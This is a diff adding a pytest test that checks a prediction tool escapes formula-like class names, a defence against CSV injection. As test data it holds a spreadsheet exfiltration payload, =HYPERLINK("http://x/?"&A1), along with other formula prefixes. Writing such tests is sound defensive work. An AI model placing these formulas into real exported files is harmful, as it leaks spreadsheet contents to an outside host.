@@ -111,6 +111,21 @@ def test_a_missing_column_is_an_error_in_one_line(
     assert not out.exists()
 
 
+def test_class_names_of_a_foreign_model_are_no_formulas(model: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The beginnings that OWASP names for CSV injection; a number is none, whatever its sign."""
+    plain = json.loads(model.read_text())
+    plain["schema"]["classes"] = ["-1", '=HYPERLINK("http://x/?"&A1)']
+    model.write_text(json.dumps(plain))
+    frame = predicted(model, "hr,acc,side\n120,0,right\n80,0,left\n")
+    assert frame["prediction"].tolist() == ['\'=HYPERLINK("http://x/?"&A1)', "-1"]
+    assert frame.columns[2:].tolist() == ["probability_-1", 'probability_=HYPERLINK("http://x/?"&A1)']
+    assert "class names that a spreadsheet would calculate are written with '" in capsys.readouterr().out
+    for name in ("+1+2", "-x", "@SUM(A1)", "\t=1", "\r=1"):
+        plain["schema"]["classes"] = ["rest", name]
+        model.write_text(json.dumps(plain))
+        assert predicted(model, "hr,acc,side\n120,0,right\n")["prediction"].tolist() == [f"'{name}"]
+
+
 def test_paths_are_told_in_words(model: Path) -> None:
     frame = predicted(model, "hr,acc,side\n120,0,right\n", "--explain")
     assert frame["path"].tolist() == [
